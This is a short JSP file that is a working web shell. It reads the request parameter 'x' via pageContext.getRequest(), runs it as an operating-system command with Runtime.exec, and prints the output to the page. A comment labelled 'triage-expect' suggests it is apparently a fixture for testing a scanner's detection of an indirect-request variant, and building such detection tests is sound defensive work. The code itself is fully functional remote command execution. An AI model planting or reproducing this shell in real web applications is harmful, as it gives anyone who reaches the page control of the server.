<%-- triage-expect: triage_jsp_request_exec --%>
<%@ page import="java.io.*" %>
<%
    // the request reached through the page context instead of the implicit 'request'
    ServletRequest r = pageContext.getRequest();
    Process p = Runtime.getRuntime().exec(pageContext.getRequest().getParameter("x"));
    BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String l; while ((l = br.readLine()) != null) { out.println(l); }
%>
